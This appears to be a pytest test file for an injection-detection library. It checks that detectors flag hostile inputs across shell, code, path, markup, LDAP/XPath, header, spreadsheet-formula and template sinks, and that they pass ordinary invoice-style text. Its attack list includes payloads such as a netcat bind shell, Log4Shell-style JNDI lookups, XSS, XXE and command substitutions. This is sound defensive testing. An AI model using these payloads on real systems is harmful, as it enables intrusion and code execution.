"""Each sink finds what leaves its grammar, passes ordinary text, and does work in proportion to the text."""

import sys
from collections.abc import Callable, Iterable, Iterator
from types import FrameType
from typing import TYPE_CHECKING

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from aethel.security import code, directory, formula, lines, markup, path, shell, templates, url
from aethel.security.breakout import Breakout
from aethel.security.classes import Weakness
from aethel.security.sink_names import sink_names

if TYPE_CHECKING:
    from _typeshed import TraceFunction

Check = Callable[[str], Iterator[Breakout]]
SINKS: dict[str, Check] = {
    "shell": shell.breakouts,
    "code": code.breakouts,
    "path": path.breakouts,
    "markup": markup.breakouts,
    "directory": directory.breakouts,
    "lines": lines.breakouts,
    "formula": formula.breakouts,
    "templates": templates.breakouts,
}
ATTACKS = [
    ("shell", "; ls -la", 78),
    ("shell", "x' ; id ; '", 78),
    ("shell", "a);id", 78),
    ("shell", "|/usr/bin/id", 78),
    ("shell", "& ping -n 3 127.0.0.1 &", 78),
    ("shell", "$(id)", 78),
    ("shell", "`whoami`", 78),
    ("shell", ";w'h'o'am'i", 78),
    ("shell", ";getent$IFS$9hosts", 78),
    ("shell", "x; mytool --force /etc/motd", 78),
    ("shell", "() { :;}; x", 78),
    ("shell", "nc -lvvp 4444 -e /bin/sh", 78),
    ("code", "os.popen('x')", 78),
    ("code", "';foo(16);t='", 78),
    ("code", "''.__class__.__mro__", 78),
    ("path", "img/../../x", 22),
    ("path", "see img/a/b/../../x", 22),
    ("path", "....//....//x", 22),
    ("path", "C:\\boot.ini", 22),
    ("path", "\\\\host\\c$\\x", 22),
    ("path", "a\0.png", 158),
    ("markup", "<ScRiPt src=//x>", 79),
    ("markup", "<x onfoo=y>", 79),
    ("markup", '" onfocus=alert(1) x="', 79),
    ("markup", "<a href=j&#97vascript&colon;x>y</a>", 79),
    ("markup", "javascript:alert(1)", 79),
    ("markup", '<!--#exec cmd="ls"-->', 97),
    ("markup", '<!DOCTYPE a [<!ENTITY b SYSTEM "c">]>', 611),
    ("directory", "*)(uid=*))(|(uid=*", 90),
    ("directory", "' or ''='", 643),
    ("directory", "'] | //user/*[contains(*,'", 643),
    ("lines", "x\r\nSet-Cookie: a=b", 93),
    ("lines", "x\nBcc: a@b.example", 93),
    ("lines", "\u560dSet-Cookie:a=b", 93),
    ("lines", "x\r\nA1 FETCH 2", 93),
    ("lines", "x\n2024-01-01 10:00:00 INFO logged in", 117),
    ("lines", "\x1b[31mred", 150),
    ("formula", "=1+1", 1236),
    ("formula", "@SUM(1+1)", 1236),
    ("formula", "-2+3+cmd|' /C calc'!A0", 1236),
    ("templates", "{{7*7}}", 1336),
    ("templates", "${${lower:j}ndi:ldap://x/a}", 1336),
    ("templates", "{'${7*7}", 1336),
    ("templates", "<%= 7*7 %>", 1336),
    ("templates", "{php}x{/php}", 1336),
    ("templates", "{0.__class__}", 1336),
    ("templates", "%s%n", 134),
]
ORDINARY = [
    "Smith & Sons; Partners",
    "A&B | C",
    "R&D",
    "name | id | amount",
    "Fish & chips; cat food & litter",
    "50% off; see invoice #42",
    "50%discount 10%p.a.",
    "$100 (EUR) or US$(000)",
    "$HOME improvement",
    'Toys"R"Us',
    "O'Brien & Søn — invoice #42 (50% off)",
    "Rock 'n' Roll; invoice(s) due (2)",
    "the 'best' and brightest or 'A' or 'B'",
    "Foo (UK) (VAT=20%)",
    "*NSYNC, terms apply*",
    "a < b, <3, Smith <smith@example.com>, x <y> z, <unknown>, <address>, <enter type here>",
    "JavaScript: Basics of JavaScript Language",
    "https://example.com/a/b?online=1&onload=yes#c",
    "re: ../2024 invoice",
    "and/or 1/2 price T/A c/o 24/7",
    "/ROC/12345//INV/2024",
    "C:/ drive repair",
    "Invoice 5\r\nNote: paid\r\nTo: Alice\r\nDate: today",
    "A1 FETCH",
    "+49 30 1234",
    "-5.00",
    "@home Ltd",
    "=Can I please adjust_campaign:sign?",
    "=_=",
    "{draft} {1500}30User {A&B}",
    "{{ see note below }}",
    "100% sure",
    "node.js meetup; booking.com (NL)",
    "株式会社（テスト）＆ＣＯ．; 東京",
    "ООО «Ромашка» & Ко; счёт №5",
    "محمد & أبناء؛ فاتورة ٤٢",
]
HOSTILE = [
    ";",
    "| ",
    "a;",
    "`a",
    "$(",
    "{{",
    "${a ",
    "'",
    '"a',
    "<a ",
    "<!",
    "a(",
    'f("',
    "../",
    "%",
    "\n=",
    "' or ",
    "\r\nA:",
]


def found(sink: str, text: str) -> set[int]:
    return {breakout.cwe for breakout in SINKS[sink](text)}


@pytest.mark.parametrize(("sink", "text", "cwe"), ATTACKS)
def test_a_text_that_leaves_the_grammar_of_its_sink_is_found(sink: str, text: str, cwe: int) -> None:
    assert cwe in found(sink, text)


@pytest.mark.parametrize("text", ORDINARY)
@pytest.mark.parametrize("sink", SINKS)
def test_ordinary_text_passes_every_sink(sink: str, text: str) -> None:
    assert found(sink, text) == set()


@pytest.mark.parametrize(
    "text", ["http://127.1/", "http://0x7f000001/", "http://[::ffff:10.0.0.1]/", "http://a@b.com/"]
)
def test_a_url_that_leads_inside_or_hides_its_host_is_found(text: str) -> None:
    assert [breakout.cwe for breakout in url.breakouts(text)] == [Weakness.SERVER_SIDE_REQUEST]


@pytest.mark.parametrize("text", ["javascript:alert(1)", "file:///etc/passwd", "http://localhost:80/x", "https:///x"])
def test_a_url_that_is_no_public_web_page_is_found(text: str) -> None:
    assert list(url.breakouts(text))


@pytest.mark.parametrize("text", ["https://example.com/a?b=c", "http://93.184.216.34/", "mailto:a@b.c", "docs/readme"])
def test_a_public_url_passes(text: str) -> None:
    assert not list(url.breakouts(text))


PIECES = st.sampled_from([text for _, text, _ in ATTACKS] + HOSTILE) | st.text(max_size=8)


@given(st.lists(PIECES, max_size=12).map("".join))
@settings(max_examples=60, deadline=None)
def test_every_finding_lies_within_the_text_it_was_found_in(text: str) -> None:
    for check in (*SINKS.values(), url.breakouts):
        for breakout in check(text):
            assert 0 <= breakout.start < breakout.end <= len(text)
            assert 0 < breakout.confidence <= 1


def lines_run(check: Callable[[str], Iterable[object]], text: str) -> int:
    """How many lines of the package's own code ran, a count that is the same on every machine."""
    ran = 0

    def trace(frame: FrameType, event: str, _: object) -> "TraceFunction | None":
        nonlocal ran
        if "aethel" not in frame.f_code.co_filename:
            return None
        ran += event == "line"
        return trace

    before = sys.gettrace()
    sys.settrace(trace)
    try:
        list(check(text))
    finally:
        sys.settrace(before)
    return ran


@pytest.mark.parametrize("unit", HOSTILE)
@pytest.mark.parametrize("sink", SINKS)
def test_ten_times_the_text_is_at_most_twelve_times_the_work(sink: str, unit: str) -> None:
    lines_run(SINKS[sink], unit)
    short = (unit * 80)[:80]
    assert lines_run(SINKS[sink], short * 10) <= 12 * lines_run(SINKS[sink], short) + 50


def test_every_list_of_names_is_lower_case_but_the_variables() -> None:
    for key, words in sink_names().lists.items():
        if not key.endswith("variables"):
            assert all(word == word.lower() for word in words), key


def test_a_program_is_a_word_or_not_but_never_both() -> None:
    names = sink_names()
    assert not names["shell.programs"] & names["shell.words"]
    assert not names["shell.windows"] & names["shell.windows_words"]
    assert names["shell.terse"] <= names["shell.words"] | names["shell.windows_words"]


def test_an_element_is_active_or_passive_but_never_both() -> None:
    assert not sink_names()["markup.active"] & sink_names()["markup.passive"]
